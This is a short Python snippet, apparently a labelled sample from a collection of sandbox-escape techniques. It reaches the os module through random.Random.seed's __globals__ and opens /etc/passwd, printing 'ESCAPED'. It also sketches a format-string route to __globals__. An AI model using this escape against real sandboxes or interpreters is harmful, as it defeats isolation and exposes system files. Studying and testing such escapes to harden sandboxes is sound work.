# class: format-string attribute access reaching a function's __globals__
import random
g = "{0.__globals__}".format  # only to show the route; the value is used below
fn = random.Random.seed
os_ = fn.__globals__["_os"]
print("ESCAPED", os_.open("/etc/passwd", 0))
